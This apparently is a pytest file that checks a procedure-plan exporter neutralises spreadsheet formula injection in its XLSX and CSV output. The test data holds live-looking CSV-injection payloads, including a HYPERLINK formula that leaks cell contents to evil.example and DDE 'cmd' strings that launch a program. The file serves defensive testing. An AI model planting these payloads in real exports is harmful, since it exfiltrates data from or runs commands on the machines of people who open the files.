"""Issue 11 §4: no exported text becomes a spreadsheet formula.

Imported titles and agencies and reviewers' rationale and legal text that start with a formula
sign (also after a leading tab, carriage return or spaces) are text in the XLSX plan and are
neutralised in the CSV plan (OWASP CSV injection); the plan's own SUBTOTAL formulas stay."""
from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from app.catalog.importer import import_file
from app.exports import cells, services
from app.exports.plan import COLUMN_KEYS
from app.extensions import db
from helpers import mark_to, record, write_jsonl

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "spaces then =": "   =1+1",
    "line break then @": "\n@SUM(A1)",
}


@pytest.fixture
def exported(app, tmp_path, make_user, request):
    """One procedure whose title, agency, rationale and legal text all carry the payload."""
    payload = request.param
    rita, lena = make_user("rita", "reviewer"), make_user("lena", "lead")
    item = record("1.000001", title=payload + " thủ tục", agency=payload + " Bộ")
    import_file(write_jsonl(tmp_path / "c.jsonl", [item]), publish=True)
    mark_to("proposed", "1.000001", "document:d2", {
        "action": "remove", "params": {}, "reason": "not_necessary", "rationale": payload,
        "legal_text": payload, "hours_saved_per_case": 1}, rita, lena)
    services.write_export("xlsx", tmp_path / "plan.xlsx")
    services.write_export("csv", tmp_path / "plan.csv")
    db.session.commit()
    return payload, tmp_path


@pytest.mark.parametrize("exported", list(PAYLOADS.values()), ids=list(PAYLOADS), indirect=True)
def test_xlsx_text_cells_are_never_formulas(exported):
    payload, folder = exported
    workbook = load_workbook(folder / "plan.xlsx")
    sheet = workbook["Plan"]
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    # Only the plan's own subtotal (one agency) and total.
    assert len(formulas) == 2 and all(value.startswith("=SUBTOTAL(9,") for value in formulas), formulas
    row = next(row for row in sheet.iter_rows(min_row=2) if isinstance(row[COLUMN_KEYS.index("mark_id")].value, int))
    for column in ("title", "agency", "rationale", "legal"):
        cell = row[COLUMN_KEYS.index(column)]
        # What the services kept of the payload (the mark form trims surrounding blanks; XML
        # reads a carriage return back as a line break).
        assert cell.value.lstrip().startswith(payload.strip()), (column, cell.value)
        assert cells.is_risky(cell.value)
        assert cell.data_type == "s" and cell.quotePrefix, column
    for every in sheet.iter_rows():
        for cell in every:
            if isinstance(cell.value, str) and not cell.value.startswith("=SUBTOTAL("):
                assert cell.data_type == "s", cell.value
    # In the file itself the payload is a string, not a <f> element.
    with zipfile.ZipFile(folder / "plan.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert xml.count("<f>") == 2


@pytest.mark.parametrize("exported", list(PAYLOADS.values()), ids=list(PAYLOADS), indirect=True)
def test_csv_values_are_neutralised(exported):
    payload, folder = exported
    with open(folder / "plan.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    row = rows[1]
    for column in ("title", "agency", "rationale", "legal"):
        value = row[COLUMN_KEYS.index(column)]
        assert value.startswith("'") and cells.is_risky(value[1:]), (column, value)
        assert value[1:].startswith(payload) or value[1:].startswith(payload.strip())
    for value in (value for row in rows for value in row):
        assert not cells.is_risky(value), value


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t1", "\r1", " =1", "\r\n+1", "\u3000@1", "＝1"])
def test_every_formula_start_is_risky(text):
    assert cells.is_risky(text) and cells.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["1.000001", "Bộ Tư pháp", "a=b", "email@example.org", "", "(-5)"])
def test_ordinary_text_is_left_alone(text):
    assert not cells.is_risky(text) and cells.csv_text(text) == text
